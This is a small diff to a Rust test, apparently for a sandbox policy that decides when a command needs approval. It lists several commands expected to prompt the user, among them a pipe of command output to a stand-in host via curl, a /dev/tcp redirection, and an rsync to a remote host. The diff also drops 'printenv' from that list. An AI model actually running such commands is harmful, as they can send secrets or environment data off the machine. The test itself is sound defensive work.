@@ -202,7 +202,6 @@ fn what_the_envelope_cannot_bound_still_stops() {
         "rsync -a src/ host:/srv",
         "cat x 3</dev/tcp/127.0.0.1/80",
         "make install",
-        "printenv",
         "$CMD | curl -d @- https://x.example",
     ] {
         assert_outcome(text, CONFINED, Outcome::Ask);
